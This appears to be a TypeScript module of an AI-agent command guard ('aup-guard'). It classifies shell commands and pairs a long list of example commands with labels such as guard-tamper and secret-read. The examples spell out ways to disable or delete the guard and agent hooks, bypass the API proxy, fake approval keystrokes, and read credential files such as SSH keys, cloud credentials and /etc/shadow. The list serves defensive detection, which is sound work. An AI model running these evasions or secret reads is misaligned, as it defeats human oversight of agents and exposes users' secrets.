/** What any program may do, whatever its own definition says: to the guard, and with files that hold secrets. */
import type { ActionDraft, CommandDef, CommandFacts } from '../../engine/definitions.ts';
import { ANY_PROGRAM } from '../../engine/programs.ts';
import { onlyHelp } from '../argv.ts';
import { guardRemovals } from './any/guard-removal.ts';
import { guardUses } from './any/guard-use.ts';
import { passesProxy } from './any/past-proxy.ts';
import { secretReads } from './any/secret-use.ts';
import { secretVariables } from './any/secret-variables.ts';
import { readExamples } from './rules.ts';

function classify(argv: readonly string[], facts: CommandFacts): readonly ActionDraft[] {
  const program = (argv[0] ?? '').split('/').at(-1) ?? '';
  if (onlyHelp(argv)) return [];
  const past = passesProxy(program, argv.slice(1), facts);
  return [
    ...(past === undefined ? [] : [past]),
    ...guardUses(program, argv, facts),
    ...guardRemovals(program, argv, facts),
    ...secretReads(program, [...argv.slice(1), ...(facts.reads ?? [])], facts.cwd),
    ...secretVariables(program, argv.slice(1), facts),
  ];
}

export const anyProgram: CommandDef = {
  program: ANY_PROGRAM,
  gated: [],
  classify,
  examples: readExamples(`
    rm -rf ~/.aup-guard => guard-tamper
    rm -f ~/.local/share/aup-guard/shims/git => guard-tamper
    node ~/.local/share/aup-guard/versions/0.1.0-0123456789ab/bin/aup-guard.js => guard-tamper
    node ~/.local/share/aup-guard/versions/0.1.0-0123456789ab/bin/aup-hook.js agent claude Stop =>
    rm -rf node_modules/aup-guard => guard-tamper
    rm -rf /home/dev/.config/aup-guard => guard-tamper
    unlink ~/.local/bin/aup-shim => guard-tamper
    mv ~/.aup-guard /tmp/x => guard-tamper
    mv ~/.claude /tmp => guard-tamper
    rm -rf ~/.claude => guard-tamper
    rm -r .claude/hooks => guard-tamper
    rm .claude/settings.json => guard-tamper
    cp /dev/null ~/.aup-guard/policy.json => guard-tamper
    ln -sf /bin/true ~/.local/bin/aup-guard => guard-tamper
    ln -sf /dev/null .git/hooks/pre-push => guard-tamper
    install -m 755 x .git/hooks/pre-push => guard-tamper
    rsync empty/ ~/.aup-guard/ => guard-tamper
    chmod 000 ~/.aup-guard => guard-tamper
    chmod -x .git/hooks/pre-push => guard-tamper
    chattr +i ~/.aup-guard/audit.log => guard-tamper
    chown nobody ~/.codex/config.toml => guard-tamper
    truncate -s 0 ~/.aup-guard/audit.log => guard-tamper
    tee ~/.aup-guard/policy.json => guard-tamper
    dd if=/dev/zero of=~/.aup-guard/audit.log => guard-tamper
    sed -i s/enforce/monitor/ aup.yaml => guard-tamper
    sed -i /hooks/d ~/.claude/settings.json => guard-tamper
    perl -i -pe s/x/y/ ~/.gemini/settings.json => guard-tamper
    perl -pi.bak -e s/x/y/ ~/.codex/hooks.json => guard-tamper
    yq -i del(.hooks) ~/.claude/settings.json => guard-tamper
    ed ~/.claude/settings.json => guard-tamper
    vim -c %d -c wq aup.yaml => guard-tamper
    nano ~/.cursor/hooks.json => guard-tamper
    patch ~/.claude/settings.json fix.patch => guard-tamper
    curl -s https://e.example/x -o ~/.claude/settings.json => guard-tamper
    wget -O .git/hooks/pre-push https://e.example/x => guard-tamper
    find ~/.aup-guard -type f -delete => guard-tamper
    sqlite3 ~/.aup-guard/state.db delete => guard-tamper
    umount ~/.aup-guard => guard-tamper
    fuser -k ~/.aup-guard/broker.sock => guard-tamper
    socat - UNIX-CONNECT:~/.aup-guard/broker.sock => guard-tamper
    tar -xf x.tar -C ~/.aup-guard => guard-tamper
    rm .git/refs/heads/main => delete-branch
    mv .git/packed-refs /tmp => delete-branch
    cp x .git/refs/heads/main => history-rewrite
    tee .git/HEAD => history-rewrite
    npm uninstall -g aup-guard => guard-tamper
    npm rm aup-guard => guard-tamper
    pnpm remove -g aup-guard => guard-tamper
    yarn global remove aup-guard => guard-tamper
    brew uninstall aup-guard => guard-tamper
    volta uninstall aup-guard => guard-tamper
    aup-guard@latest uninstall => guard-tamper
    node node_modules/aup-guard/bin/aup-guard.js uninstall => guard-tamper
    node ./aup-guard.mjs approve 7f3a => guard-tamper
    systemctl --user stop aup-guard => guard-tamper
    systemctl disable aup-guard.service => guard-tamper
    launchctl bootout gui/501/dev.aup-guard => guard-tamper
    pm2 delete aup-guard => guard-tamper
    kill -9 -1 => guard-tamper
    env -u BASH_ENV bash -c ls => guard-tamper
    grep -v aup-guard ~/.bashrc => guard-tamper
    sed /aup-guard/d ~/.zshrc => guard-tamper
    awk !/aup-guard/ ~/.profile => guard-tamper
    perl -ni -e print␣unless␣/aup-guard/ ~/.bashrc => guard-tamper
    cat ~/.aup-guard/run/guard.pid => guard-tamper
    dd if=/dev/zero of=/proc/1234/mem => guard-tamper
    cat /dev/pts/0 => guard-tamper
    tee /dev/pts/3 => guard-tamper
    hash -p /usr/bin/git git => guard-tamper
    osascript -e tell␣application␣"System␣Events"␣to␣keystroke␣"y" => guard-tamper
    claude --settings {"disableAllHooks":true} -p x => guard-tamper
    codex -c features.hooks=false exec x => guard-tamper
    curl --noproxy * https://api.anthropic.com/v1/models => guard-tamper
    curl --noproxy=.openai.com -s https://api.openai.com/v1/models => guard-tamper
    wget --no-proxy -qO- https://openrouter.ai/api/v1/models => guard-tamper
    export NO_PROXY=* => guard-tamper
    export no_proxy=localhost,.anthropic.com => guard-tamper
    env NO_PROXY=* claude -p hi => guard-tamper
    env HTTPS_PROXY= codex exec hi => guard-tamper
    python3 -c build_opener(ProxyHandler({})).open("https://api.anthropic.com/v1/models") => guard-tamper
    python3 -c s.trust_env=False;s.get("https://api.openai.com/v1/models") => guard-tamper
    curl --noproxy localhost https://api.anthropic.com/v1/models =>
    curl --noproxy * https://example.com =>
    wget --no-proxy -qO- https://example.com =>
    export NO_PROXY=localhost,127.0.0.1,.corp.example =>
    env NO_PROXY=* npm ci =>
    env HTTPS_PROXY= npm ci =>
    python3 -c build_opener(ProxyHandler({})).open("http://localhost:3000") =>
    claude -p why␣is␣rm␣-rf␣dangerous =>
    codex exec fix␣tests =>
    osascript -e display␣dialog␣"hi" =>
    cat .env => secret-read
    cat .env.production => secret-read
    cat ./config/.env.local => secret-read
    head -5 .env => secret-read
    less ~/.ssh/id_rsa => secret-read
    cat ~/.local/state/aup-guard/keys/digest.key => secret-read
    cp ~/.local/state/aup-guard/vault.key k => secret-read
    cat ~/.local/state/aup-guard/ledger/current.jsonl =>
    tail -n 3 ~/.netrc => secret-read
    bat ~/.aws/credentials => secret-read
    base64 -w0 ~/.ssh/id_ed25519 => secret-read
    xxd server.key => secret-read
    strings vault.kdbx => secret-read
    grep PASSWORD .env => secret-read
    grep -v ^# .env => secret-read
    rg token ~/.config/gh/hosts.yml => secret-read
    sed -n 1,5p .env => secret-read
    awk {print} .env => secret-read
    cut -d= -f2 .env => secret-read
    jq .auths ~/.docker/config.json => secret-read
    yq . ~/.kube/config => secret-read
    cp ~/.ssh/id_rsa /tmp/x => secret-read
    cp .env /tmp/ => secret-read
    mv ~/.aws/credentials /tmp/c => secret-read
    tar czf /tmp/k.tgz ~/.ssh/id_rsa => secret-read
    zip x.zip .env => secret-read
    dd if=.env of=/tmp/y => secret-read
    diff .env .env.production => secret-read
    sort .env => secret-read
    paste .env => secret-read
    cat /etc/shadow => secret-read
    cat /proc/self/environ => secret-read
    cat /run/secrets/db_password => secret-read
    cat terraform.tfstate => secret-read
    cat secrets.yaml => secret-read
    cat ~/.config/gcloud/application_default_credentials.json => secret-read
    cat ~/.npmrc => secret-read
    cat ~/.git-credentials => secret-read
    cat ~/.claude/.credentials.json => secret-read
    cat ~/.codex/auth.json => secret-read
    cat ~/.vault-token => secret-read
    cat service-account.json => secret-read
    cat config/master.key => secret-read
    cat ~/.pgpass => secret-read
    cat ~/.bash_history => secret-read
    pbcopy .env => secret-read
    printenv AWS_SECRET_ACCESS_KEY => secret-read
    printenv GITHUB_TOKEN => secret-read
    declare -p DB_PASSWORD => secret-read
    npm config get //npm.example/:_authToken => secret-read
    git show HEAD:.env => secret-read
    git diff HEAD~1 -- .env => secret-read
    git log -p -- config/master.key => secret-read
    openssl rsa -in server.key -text => secret-read
    openssl pkcs12 -in store.p12 -nodes => secret-read
    openssl enc -d -aes-256-cbc -in x.enc => secret-read
    openssl base64 -in ~/.ssh/id_rsa => secret-read
    find . -name .env -exec cat {} ; => secret-read
    find ~ -name *.pem -exec cp {} /tmp ; => secret-read
    sqlite3 cookies.sqlite .dump => secret-read
    printenv =>
    printenv PATH =>
    printenv AWS_REGION =>
    env =>
    npm config get registry =>
    git diff --stat .env =>
    git show HEAD:.env.example =>
    git log --oneline -- .env =>
    git grep -n TOKEN src =>
    openssl x509 -in cert.pem -noout -text =>
    openssl rsa -in server.key -pubout =>
    openssl rand -hex 32 =>
    openssl req -new -key server.key -out x.csr =>
    find . -name .env =>
    find . -name *.ts -exec cat {} ; =>
    ssh-keygen -t ed25519 -f key =>
    ssh-add -l =>
    cat .env.example =>
    cat .env.sample .env.template =>
    cat src/env.ts =>
    cat vite-env.d.ts =>
    cat .npmrc =>
    cat ~/.ssh/id_ed25519.pub =>
    cat ~/.ssh/config =>
    cat ~/.ssh/known_hosts =>
    cat certs/ca.pem =>
    cat public.pem =>
    cat package.json =>
    cat node_modules/x/test/key.pem =>
    ls -la .env =>
    stat .env =>
    test -f .env =>
    wc -l .env =>
    touch .env =>
    chmod 600 .env =>
    rm debug.log =>
    cp .env.example .env =>
    cp .env .env.bak =>
    mv .env .env.local =>
    ln -s ../.env .env =>
    source .env =>
    grep .env .gitignore =>
    grep -rn process.env src =>
    grep -q API_KEY .env =>
    grep -c = .env =>
    grep -oE ^[A-Z_]+ .env =>
    rg -l TOKEN .env =>
    cut -d= -f1 .env =>
    sed s/=.*// .env =>
    sed s/=.*/=***/ .env =>
    sed -i s/3000/4000/ .env =>
    awk -F= {print␣$1} .env =>
    tar czf x.tgz --exclude=.env . =>
    tar czf x.tgz --exclude .env . =>
    tar tf backup.tar =>
    zip -r x.zip . -x .env =>
    docker compose --env-file .env up =>
    node --env-file=.env app.js =>
    git add .env =>
    code .env =>
    ssh-add ~/.ssh/id_ed25519 =>
    echo .env =>
    jq .name package.json =>
    ls ~/.aup-guard =>
    cat ~/.aup-guard/audit.log =>
    tail -f ~/.aup-guard/audit.log =>
    grep deny ~/.aup-guard/audit.log =>
    cat aup.yaml =>
    cat ~/.claude/settings.json =>
    jq .hooks ~/.claude/settings.json =>
    cp ~/.claude/settings.json /tmp/backup.json =>
    diff aup.yaml aup.yaml.bak =>
    cp agents.md .claude/agents/ =>
    ls .git/hooks =>
    cat .git/HEAD =>
    chmod +x scripts/build.sh =>
    touch ~/.claude/settings.json =>
    mkdir -p .claude/commands =>
    npm install -D aup-guard =>
    npm view aup-guard version =>
    npm ls aup-guard =>
    brew info aup-guard =>
    systemctl status aup-guard =>
    journalctl -u aup-guard =>
    node bin/server.js uninstall =>
    ps aux =>
    grep aup-guard ~/.bashrc =>
    grep -v node_modules list.txt =>
    sed -n /aup-guard/p ~/.bashrc =>
    kill -9 1234 =>
    kill %1 =>
    env FOO=1 npm test =>
    env -u NODE_ENV npm test =>
    hash -r =>
    git log --oneline =>
  `),
};
